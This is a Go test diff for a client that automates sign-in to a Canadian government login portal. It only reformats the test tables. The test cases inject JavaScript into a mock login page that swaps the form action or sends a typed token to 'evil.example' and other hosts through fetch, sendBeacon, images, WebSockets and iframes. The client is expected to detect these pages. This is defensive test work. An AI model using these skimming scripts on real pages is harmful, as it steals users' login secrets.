@@ -175,12 +175,12 @@ func TestEchoes(t *testing.T) {
 		fault        *fixtures.Fault
 		want         string
 	}{
-		"created":            {want: "created"},
-		"refused":            {misbehaviour: "wrong-credentials", want: "credential_refused"},
-		"answer refused":     {misbehaviour: "wrong-answer", want: "credential_refused"},
-		"rejected":           {misbehaviour: "create-validation-error", want: "rejected_by_portal"},
-		"page not known":     {fault: &fixtures.Fault{Kind: fixtures.FaultInterstitial, Page: fixtures.PageHome, Method: "GET", Times: -1}, want: "page_unknown"},
-		"without redaction ": {misbehaviour: "wrong-answer", want: "credential_refused"},
+		"created":           {want: "created"},
+		"refused":           {misbehaviour: "wrong-credentials", want: "credential_refused"},
+		"answer refused":    {misbehaviour: "wrong-answer", want: "credential_refused"},
+		"rejected":          {misbehaviour: "create-validation-error", want: "rejected_by_portal"},
+		"page not known":    {fault: &fixtures.Fault{Kind: fixtures.FaultInterstitial, Page: fixtures.PageHome, Method: "GET", Times: -1}, want: "page_unknown"},
+		"without redaction": {misbehaviour: "wrong-answer", want: "credential_refused"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			p, s := portal(t, fixtures.Options{Seed: 11, Accounts: []fixtures.Account{guarded()}})
@@ -372,16 +372,26 @@ func TestSignInPageTurns(t *testing.T) {
 		"by get": {change: func(page string) string {
 			return strings.Replace(page, `<form id="login" name="login" method="post"`, `<form id="login" name="login" method="get"`, 1)
 		}, code: "unsafe", says: "address"},
-		"swapped after typing": {change: script(`document.getElementById("token2").addEventListener("change", () => { document.getElementById("login").action = "https://www.canada.ca/collect"; });`),
-			code: "unsafe", says: "elsewhere"},
-		"swapped while it leaves": {change: script(`document.getElementById("login").addEventListener("formdata", () => {}); HTMLFormElement.prototype.submit = new Proxy(HTMLFormElement.prototype.submit, { apply(f, form) { form.action = "https://www.canada.ca/collect"; return Reflect.apply(f, form, []); } });`),
-			code: "unsafe", says: "a post to www.canada.ca while a secret was on the page"},
-		"told to another host of the catalog": {change: script(`document.getElementById("token2").addEventListener("change", (e) => { fetch("https://www.canada.ca/collect", {method: "POST", mode: "no-cors", body: e.target.value}).catch(() => {}); navigator.sendBeacon("https://onlineservices-servicesenligne.cic.gc.ca/collect", e.target.value); });`),
-			code: "created", may: true},
-		"told to a foreign host": {change: script(`document.getElementById("token2").addEventListener("change", (e) => { const v = encodeURIComponent(e.target.value); new Image().src = "https://evil.example/?" + v; new WebSocket("wss://evil.example/" + v); fetch("https://evil.example/?" + v).catch(() => {}); document.body.insertAdjacentHTML("beforeend", "<iframe hidden src='https://evil.example/?" + v + "'></iframe><link rel=stylesheet href='https://evil.example/?" + v + "'>"); });`),
-			code: "created", may: true},
-		"in the address of a window": {change: script(`document.getElementById("token2").addEventListener("change", (e) => { window.open("https://www.canada.ca/?q=" + encodeURIComponent(e.target.value)); });`),
-			code: "unsafe", says: "an address with a secret in it"},
+		"swapped after typing": {
+			change: script(`document.getElementById("token2").addEventListener("change", () => { document.getElementById("login").action = "https://www.canada.ca/collect"; });`),
+			code:   "unsafe", says: "elsewhere",
+		},
+		"swapped while it leaves": {
+			change: script(`document.getElementById("login").addEventListener("formdata", () => {}); HTMLFormElement.prototype.submit = new Proxy(HTMLFormElement.prototype.submit, { apply(f, form) { form.action = "https://www.canada.ca/collect"; return Reflect.apply(f, form, []); } });`),
+			code:   "unsafe", says: "a post to www.canada.ca while a secret was on the page",
+		},
+		"told to another host of the catalog": {
+			change: script(`document.getElementById("token2").addEventListener("change", (e) => { fetch("https://www.canada.ca/collect", {method: "POST", mode: "no-cors", body: e.target.value}).catch(() => {}); navigator.sendBeacon("https://onlineservices-servicesenligne.cic.gc.ca/collect", e.target.value); });`),
+			code:   "created", may: true,
+		},
+		"told to a foreign host": {
+			change: script(`document.getElementById("token2").addEventListener("change", (e) => { const v = encodeURIComponent(e.target.value); new Image().src = "https://evil.example/?" + v; new WebSocket("wss://evil.example/" + v); fetch("https://evil.example/?" + v).catch(() => {}); document.body.insertAdjacentHTML("beforeend", "<iframe hidden src='https://evil.example/?" + v + "'></iframe><link rel=stylesheet href='https://evil.example/?" + v + "'>"); });`),
+			code:   "created", may: true,
+		},
+		"in the address of a window": {
+			change: script(`document.getElementById("token2").addEventListener("change", (e) => { window.open("https://www.canada.ca/?q=" + encodeURIComponent(e.target.value)); });`),
+			code:   "unsafe", says: "an address with a secret in it",
+		},
 		"posted on by a redirect": {answer: func(w http.ResponseWriter, r *http.Request, body []byte) bool {
 			if !bytes.Contains(body, []byte("token2=")) || r.Host != "clegc-gckey.gc.ca" {
 				return false
